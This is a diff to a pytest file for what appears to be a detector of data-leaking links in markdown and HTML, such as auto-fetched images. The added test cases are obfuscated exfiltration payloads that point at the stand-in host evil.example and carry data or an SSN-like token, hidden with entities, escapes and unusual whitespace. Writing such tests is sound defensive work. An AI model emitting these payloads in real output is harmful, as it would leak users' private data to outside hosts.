@@ -50,9 +50,38 @@ def test_what_a_client_fetches_by_itself_may_carry_nothing(text: str, address: s
 @pytest.mark.parametrize(
     "text",
     [
+        f"![x][r]\n\n[r]: https://evil.example/?d=\u00a0{DATA}",
+        f"> ![x][r]\n>\n> [r]:\n> https://evil.example/?d=\u3000{DATA}",
+        f"- ![x][r]\n\n  [r]: <https://evil.example/?d=‹ {DATA}>",
+        f"![x][r]\n\n[r]: &#47;&#47;evil.example&#47;{DATA}",
+        f"![x][r]\n\n[r]: https://evil.example/)'\"`|{DATA}",
+        f"![x](&#104;ttps://evil.example/{DATA})",
+        f"![x](\\/\\/evil.example/{DATA})",
+        f"![x](https\\://evil.example/\\){DATA})",
+        f"![x](https&colon;&sol;&sol;evil.example&sol;{DATA})",
+        f'<img alt=">" src="https://evil.example/?d={DATA}">',
+        f'<img src="&#x68;ttps&#x3a;//evil.example/?d={DATA}">',
+        f'<img src="ht\ntps://evil.example/?d={DATA}">',
+        f"<frame src=\\\\evil.example\\{DATA}>",
+    ],
+)
+def test_an_address_is_found_however_it_is_spelt(text: str) -> None:
+    """Entities, escapes, blanks of other scripts and brackets are part of one for those who fetch it."""
+    assert [kind for kind, _ in found(text)] == ["image"]
+    assert [address for _, address in found(text) if DATA in address] != []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
         f"[here](https://evil.example/?d={DATA}{DATA})",
         f"Look at https://evil.example/{DATA}{DATA}.",
         f"(www.evil.example/?{DATA}{DATA})",
+        f"https://evil.example/?\u00a0{DATA}{DATA}",
+        f"https://evil.example/)'{DATA}{DATA}",
+        f"[https://good.example](https://evil.example/{DATA}{DATA})",
+        f"https\\://evil.example/{DATA}{DATA}",
+        f"&sol;&sol;evil.example/{DATA}{DATA}",
         '<a href="https://evil.example/%5BUS_SSN_x7k2mq%5D">',
         "https://evil.example/?to=[US_SSN_x7k2mq]",
     ],
@@ -111,6 +140,14 @@ def test_many_openers_cost_no_more_than_their_length() -> None:
         "<img //a.b",
         "]( //a.b",
         "'//a.b",
+        "](&#47;&#47;a.b",
+        "](&",
+        "]:\t//a.b\t",
+        "=//a.b)",
+        "|//a.b)",
+        "https://a)",
+        "&#47;",
+        "\\/",
     ):
         text = piece * (200_000 // len(piece))
         began = time.process_time()
